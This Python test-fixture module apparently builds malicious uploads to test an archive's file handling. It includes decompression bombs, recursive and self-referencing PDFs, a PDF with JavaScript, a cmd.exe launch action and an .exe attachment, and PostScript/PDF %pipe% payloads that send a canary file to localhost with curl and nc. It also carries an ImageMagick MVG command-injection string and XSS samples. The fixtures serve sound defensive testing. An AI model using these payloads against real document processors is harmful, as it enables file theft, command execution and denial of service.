"""Bad files, each built in a few lines: handed in with ill will or by bad luck (C5, 1 to 8).

Every maker returns the bytes; none is larger than a megabyte, however much it wants to be.
"""

import io
import struct
import zlib
from functools import cache

import pikepdf
from PIL import Image

from archive.demo.papers import sample

A3_AT_600 = (7016, 9921)
"""Pixels of an A3 page at 600 dots an inch: 69.6 million, which one page may have."""


def flooding_png() -> bytes:
    """Return a PNG of 60,000 by 60,000 black and white pixels, in some kilobytes."""
    side, row = 60_000, bytes(1 + 60_000 // 8)
    packer = zlib.compressobj(9)
    packed = [packer.compress(row) for _ in range(side // 100)]  # its header says there are more
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", b"".join(packed) + packer.flush()), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*part) for part in parts)


def flooding_tiff() -> bytes:
    """Return a TIFF of 200 pages, each as large as one may be: 13.9 thousand million pixels."""
    size = 2 + 12 * 8 + 4
    head = struct.pack("<2sHI", b"II", 42, 8)
    folders = (
        _tiff_folder(8 + number * size, last=number == 199, size=size) for number in range(200)
    )
    return head + b"".join(folders) + bytes(64)


def circling_tiff() -> bytes:
    """Return a TIFF whose only page is followed by itself."""
    folder = _tiff_folder(8, last=False, size=0)
    return struct.pack("<2sHI", b"II", 42, 8) + folder + bytes(64)


def twice_packed_pdf(size: int = 200 << 20) -> bytes:
    """Return a page whose content is this many bytes of drawing, packed twice."""
    packer, line = zlib.compressobj(1), b"0 0 m 9 9 l S\n" * (1 << 16)
    once = b"".join(packer.compress(line) for _ in range(size // len(line)))
    with pikepdf.new() as pdf:
        page = pdf.add_blank_page()
        page.Contents = pdf.make_stream(zlib.compress(once + packer.flush(), 9))
        page.Contents.Filter = pikepdf.Array([pikepdf.Name.FlateDecode] * 2)
        return _saved(pdf, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def nested_forms_pdf(depth: int = 10_000, times: int = 1) -> bytes:
    """Return a page of ten thousand drawings inside one another, each shown this many times."""
    with pikepdf.new() as pdf:
        inner = pdf.make_stream(b"0 0 10 10 re f")
        for _ in range(depth):
            outer = pdf.make_stream(b"/F Do " * times)
            outer.Type, outer.Subtype = pikepdf.Name.XObject, pikepdf.Name.Form
            outer.BBox = pikepdf.Array([0, 0, 10, 10])
            outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=inner))
            inner = pdf.make_indirect(outer)
        page = pdf.add_blank_page()
        page.Contents = pdf.make_stream(b"/F Do")
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(F=inner))
        return _saved(pdf)


def doubling_forms_pdf() -> bytes:
    """Return a page of twenty drawings that each show the next one eight times."""
    return nested_forms_pdf(20, 8)


def circling_pages_pdf() -> bytes:
    """Return a tree of pages that is its own child and says it has a thousand million."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 1000000000/Kids[2 0 R 2 0 R]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\n%%EOF\n"
    )


def circling_tables_pdf() -> bytes:
    """Tables of objects that name each other as the one before."""
    table = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev 9>>\n"
    return b"%PDF-1.4\n" + table + b"startxref\n9\n%%EOF\n"


def giant_page_pdf() -> bytes:
    """Return a fine page, and behind it one of a hundred metres."""
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.add_blank_page()
        pdf.pages[1].MediaBox = pikepdf.Array([0, 0, 288_000, 288_000])
        return _saved(pdf)


@cache
def _paper() -> bytes:
    return sample("born_digital", seed=1).content


def acting_pdf() -> bytes:
    """Return a paper with a script, a program to start, an attachment and an XFA form."""
    script = {"/S": pikepdf.Name.JavaScript, "/JS": "app.alert('vankho')"}
    with pikepdf.open(io.BytesIO(_paper())) as pdf:
        pdf.Root.OpenAction = pikepdf.Dictionary(script)
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        pdf.pages[0].AA = pikepdf.Dictionary(O=launch)
        pdf.attachments["hoa-don.exe"] = b"MZ"
        form = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=form, Fields=[])
        return _saved(pdf)


def piping_pdf(canary: str, port: int) -> bytes:
    """Return a paper that would have an interpreter read a file and call an address."""
    call = f"(%pipe%curl http://127.0.0.1:{port}/ -d @{canary}) (r) file"
    with pikepdf.open(io.BytesIO(_paper())) as pdf:
        inside = pdf.make_stream(call.encode())
        inside.Type, inside.Subtype = pikepdf.Name.XObject, pikepdf.Name.PS
        outside = pdf.make_stream(b"")
        outside.F = canary
        remote = pdf.make_stream(b"")
        remote.F = pikepdf.Dictionary(FS=pikepdf.Name.URL, F=f"http://127.0.0.1:{port}/a.jpg")
        page = pdf.pages[0]
        page.Resources.XObject = pikepdf.Dictionary(P=inside, E=outside, R=remote)
        page.contents_add(b"/P Do /E Do /R Do")
        pdf.Root.URI = pikepdf.Dictionary(Base=f"http://127.0.0.1:{port}/")
        return _saved(pdf)


def locked_pdf() -> bytes:
    """Return a paper that opens with a password only."""
    return sample("locked", seed=1).content


def cut_pdf() -> bytes:
    """Return the first third of a paper."""
    return _paper()[: len(_paper()) // 3]


def cut_png() -> bytes:
    """Return a picture that ends in its middle: its head is fine."""
    out = io.BytesIO()
    Image.effect_noise((300, 400), 40).save(out, "PNG")
    return out.getvalue()[: len(out.getvalue()) // 2]


def postscript(canary: str, port: int) -> bytes:
    """Return a PostScript program that reads a file through a pipe."""
    call = f"(%pipe%cat {canary} | nc 127.0.0.1 {port}) (r) file"
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{call}\nshowpage\n".encode()


WORD = b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + bytes(16) + b"\x13\x00\x00\x00[Content_Types].xml"
OTHERS: dict[str, bytes] = {
    "html": b"<!doctype html><title>x</title><script>alert(1)</script>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "exe": b"MZ\x90\x00\x03" + bytes(200),
    "mvg": b"push graphic-context\nfill 'url(https://127.0.0.1/\"|touch \"/tmp/x)'\npop\n",
    "pdf after a kilobyte": b"x" * 1024 + b"%PDF-1.4\n",
    "pdf behind a page": b"<html>\n%PDF-1.4\n",
    "gif and zip": b"GIF89a" + bytes(20) + b"PK\x05\x06" + bytes(18),
    "one byte": b"\x00",
}
"""Files of other kinds, whatever they are called."""


def _saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type] # pikepdf's own options, passed on
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _tiff_folder(at: int, *, last: bool, size: int) -> bytes:
    """Return one page: its eight facts, and where the next one lies."""
    width, height = A3_AT_600
    facts = (
        (256, 4, width),
        (257, 4, height),
        (258, 3, 1),
        (259, 3, 4),
        (262, 3, 0),
        (273, 4, 8),
        (278, 4, height),
        (279, 4, 64),
    )
    body = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in facts)
    return struct.pack("<H", len(facts)) + body + struct.pack("<I", 0 if last else at + size)
